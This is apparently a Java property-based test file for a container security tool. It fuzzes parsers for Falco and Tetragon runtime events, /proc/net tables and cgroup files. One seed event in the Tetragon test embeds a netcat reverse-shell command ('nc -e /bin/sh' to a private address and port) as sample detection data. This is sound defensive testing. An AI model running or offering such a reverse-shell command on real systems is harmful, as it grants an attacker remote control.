package dev.containersec.runtime.internal.source;

import dev.containersec.api.InvalidInputException;
import dev.containersec.api.NetworkProtocol;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/** Generated input for the sources' parsers: only the documented failures escape. */
class SourceParsersProperties {

    private static final String FALCO = "{\"time\":\"2026-01-02T03:04:05Z\",\"output_fields\":{\"evt.type\":\"connect\","
            + "\"fd.sip\":\"10.0.0.1\",\"fd.sport\":80,\"proc.name\":\"curl\",\"proc.pid\":7,\"user.uid\":0,"
            + "\"proc.cmdline\":\"curl x\",\"evt.arg.flags\":\"O_RDONLY\",\"fd.name\":\"/etc/x\"}}";

    @Property(tries = 300)
    void falcoJson_arbitraryOrMutatedLines_failOnlyWithInvalidInput(@ForAll("falcoLines") String line)
            throws Exception {
        Method map = Class.forName("dev.containersec.runtime.internal.source.falco.FalcoJsonMapper")
                .getDeclaredMethod("map", String.class);
        map.setAccessible(true);
        try {
            map.invoke(null, line);
        } catch (InvocationTargetException e) {
            if (!(e.getCause() instanceof InvalidInputException)) {
                throw new AssertionError("undocumented failure for " + line, e.getCause());
            }
        }
    }

    private static final String TETRAGON = "{\"process_kprobe\":{\"process\":{\"pid\":7,\"uid\":0,\"binary\":"
            + "\"/bin/nc\",\"arguments\":\"-e /bin/sh 10.0.0.1 4444\",\"pod\":{\"container\":{\"id\":"
            + "\"containerd://0123456789abcdef\",\"image\":{\"name\":\"alpine:3\"}}},\"cap\":{\"effective\":"
            + "[\"CAP_SYS_ADMIN\"]}},\"parent\":{\"pid\":6,\"binary\":\"/bin/sh\"},\"function_name\":"
            + "\"tcp_connect\",\"args\":[{\"sock_arg\":{\"saddr\":\"10.0.0.2\",\"daddr\":\"10.0.0.1\","
            + "\"sport\":40000,\"dport\":4444}},{\"int_arg\":2},{\"file_arg\":{\"path\":\"/etc/x\"}}]},"
            + "\"node_name\":\"n\",\"time\":\"2026-01-02T03:04:05Z\"}";

    @Property(tries = 500)
    void tetragonJson_arbitraryOrMutatedLines_failOnlyWithInvalidInput(@ForAll("tetragonLines") String line) {
        dev.containersec.runtime.internal.source.tetragon.TetragonJsonMapper mapper =
                new dev.containersec.runtime.internal.source.tetragon.TetragonJsonMapper();
        try {
            mapper.map(line);
        } catch (InvalidInputException e) {
            // documented
        }
    }

    @Provide
    Arbitrary<String> tetragonLines() {
        Arbitrary<String> mutated = Arbitraries.integers().between(0, TETRAGON.length() - 1).flatMap(at ->
                Arbitraries.strings().ofMaxLength(4).map(s -> TETRAGON.substring(0, at) + s
                        + TETRAGON.substring(at + 1)));
        Arbitrary<String> kinds = Arbitraries.of("process_exec", "process_exit", "process_kprobe",
                "process_tracepoint", "process_lsm").flatMap(kind -> Arbitraries.of("tcp_connect", "fd_install",
                "security_file_permission", "__x64_sys_setreuid", "sys_ptrace", "inet_csk_accept", "connect", "x")
                .map(fn -> TETRAGON.replace("process_kprobe", kind).replace("tcp_connect", fn)));
        return Arbitraries.oneOf(Arbitraries.strings().ofMaxLength(200), mutated, kinds);
    }

    @Property(tries = 300)
    void procNetTables_neverThrow(@ForAll("netTables") String text) throws Exception {
        Method parse = Class.forName("dev.containersec.runtime.internal.source.procfs.ProcfsStream")
                .getDeclaredMethod("parseNet", String.class, NetworkProtocol.class);
        parse.setAccessible(true);
        parse.invoke(null, text, NetworkProtocol.TCP);
    }

    @Property(tries = 300)
    void cgroupFiles_neverThrow(@ForAll String text) {
        ContainerIds.parse(text);
    }

    @Provide
    Arbitrary<String> falcoLines() {
        Arbitrary<String> mutated = Arbitraries.integers().between(0, FALCO.length() - 1).flatMap(at ->
                Arbitraries.strings().ofMaxLength(4).map(s -> FALCO.substring(0, at) + s + FALCO.substring(at + 1)));
        return Arbitraries.oneOf(Arbitraries.strings().ofMaxLength(200), mutated);
    }

    @Provide
    Arbitrary<String> netTables() {
        String row = "   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 12345 1";
        Arbitrary<String> mutated = Arbitraries.integers().between(0, row.length() - 1).flatMap(at ->
                Arbitraries.strings().withChars("0123456789ABCDEFG: x").ofMaxLength(3)
                        .map(s -> "header\n" + row.substring(0, at) + s + row.substring(at + 1)));
        return Arbitraries.oneOf(Arbitraries.strings().ofMaxLength(200), mutated);
    }
}
